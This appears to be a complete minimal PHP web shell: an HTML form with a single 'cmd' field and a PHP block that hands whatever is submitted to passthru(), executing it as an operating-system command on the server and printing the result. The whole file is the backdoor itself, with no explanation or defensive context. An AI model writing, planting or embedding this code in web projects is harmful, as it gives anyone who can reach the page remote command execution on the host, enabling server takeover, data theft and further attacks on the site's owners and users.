<form method="post"><input name="cmd"><input type=submit></form>
<pre><?php if (!empty($_POST['cmd'])) { passthru($_POST['cmd']); } ?></pre>
